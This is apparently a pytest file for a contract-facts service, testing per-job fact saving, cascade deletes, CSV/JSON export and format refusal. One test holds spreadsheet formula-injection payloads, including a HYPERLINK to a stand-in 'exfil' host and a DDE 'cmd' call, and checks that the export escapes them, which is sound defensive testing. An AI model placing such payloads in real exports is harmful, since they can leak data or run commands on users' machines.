"""Key facts saved once per job and replacing earlier ones, read in schema order, exported as
CSV and JSON (one row per document, one column per field), on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from app.db.models import Document, Fact, FactSource, JobKind
from app.errors import UnknownExportFormat
from app.services import documents, jobs
from app.services import facts as fact_service
from tests.app.new_documents import new_document

QUOTE = {"text": "This Agreement is governed by the laws of Oregon.", "page": 2}


def _facts(law: str = "Oregon") -> list[fact_service.NewFact]:
    return [
        fact_service.NewFact(
            "agreement_date", "Agreement date", 2, "March 14, 2021", "2021-03-14", 0.83, "model"
        ),
        fact_service.NewFact(
            "governing_law",
            "Governing law",
            7,
            law,
            law,
            0.6,
            FactSource.RULE,
            page=2,
            evidence=[{**QUOTE, "start_char": 40, "end_char": 89}],
        ),
        fact_service.NewFact("renewal_term", "Renewal term", 5, "", "", 0.0, "none"),
    ]


def _document_and_job(session: Session, seed: str = "a") -> tuple[int, int]:
    document = documents.store_document(
        session=session, new=new_document(seed, file_name=f"{seed}.pdf")
    )
    job = jobs.create_job(session=session, kind=JobKind.FACTS, document_id=document.id)
    session.commit()
    return document.id, job.id


def test_facts_are_saved_once_per_job_and_replace_the_documents_earlier_ones(session) -> None:
    document_id, first_job = _document_and_job(session)
    fact_service.save_facts(
        session=session, job_id=first_job, document_id=document_id, facts=_facts(), model="m"
    )
    session.commit()
    again = fact_service.save_facts(
        session=session, job_id=first_job, document_id=document_id, facts=_facts("Iowa"), model="m"
    )
    assert {f.value for f in again} >= {"Oregon"}  # a second delivery finds the first's rows

    second_job = jobs.create_job(session=session, kind=JobKind.FACTS, document_id=document_id).id
    fact_service.save_facts(
        session=session, job_id=second_job, document_id=document_id, facts=_facts("Iowa"), model="m"
    )
    session.commit()
    rows = fact_service.list_facts(session=session, document_id=document_id)
    assert [r.field for r in rows] == ["agreement_date", "renewal_term", "governing_law"]
    law = rows[-1]
    assert (law.value, law.source, law.page, law.job_id) == ("Iowa", FactSource.RULE, 2, second_job)
    assert law.evidence == [{**QUOTE, "start_char": 40, "end_char": 89}]
    assert session.scalar(select(func.count()).select_from(Fact)) == 3

    session.delete(session.get(Document, document_id))
    session.commit()
    assert session.scalar(select(func.count()).select_from(Fact)) == 0  # cascade


@pytest.mark.parametrize("suffix", [".csv", ".json"])
def test_the_library_export_has_a_row_per_document_and_a_column_per_field(
    session, tmp_path: Path, suffix: str
) -> None:
    with_facts, job_id = _document_and_job(session, "a")
    without_facts, _ = _document_and_job(session, "b")
    fact_service.save_facts(
        session=session, job_id=job_id, document_id=with_facts, facts=_facts(), model="m"
    )
    session.commit()
    path = tmp_path / f"facts{suffix}"

    assert fact_service.export_facts(session=session, path=path) == 2

    if suffix == ".csv":
        with path.open(newline="", encoding="utf-8") as handle:
            reader = csv.DictReader(handle)
            header, rows = reader.fieldnames, list(reader)
    else:
        rows = json.loads(path.read_text(encoding="utf-8"))
        header = list(rows[0])
    assert header == [
        "document_id",
        "file_name",
        "title",
        "kind",
        "agreement_date",
        "renewal_term",
        "governing_law",
    ]
    first, second = rows
    assert str(first["document_id"]) == str(with_facts) and first["file_name"] == "a.pdf"
    assert (first["agreement_date"], first["governing_law"], first["renewal_term"]) == (
        "2021-03-14",  # the normalised value
        "Oregon",
        "",
    )
    assert str(second["document_id"]) == str(without_facts) and second["governing_law"] == ""


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://x.example/exfil","y")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTabbed",
        "\rReturned",
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_text(session, tmp_path: Path, title) -> None:
    document_id, _ = _document_and_job(session, "a")
    session.get(Document, document_id).title = title
    session.commit()
    csv_path, json_path = tmp_path / "facts.csv", tmp_path / "facts.json"
    fact_service.export_facts(session=session, path=csv_path)
    fact_service.export_facts(session=session, path=json_path)

    with csv_path.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["title"] == "'" + title  # shown as text, the formula's characters kept
    assert row["document_id"] == str(document_id)
    assert json.loads(json_path.read_text(encoding="utf-8"))[0]["title"] == title  # verbatim


def test_an_export_to_another_format_is_refused_with_a_sentence(session, tmp_path) -> None:
    with pytest.raises(UnknownExportFormat, match=r"\.csv or \.json, not as a \.xlsx file"):
        fact_service.export_facts(session=session, path=tmp_path / "facts.xlsx")
    assert not (tmp_path / "facts.xlsx").exists()
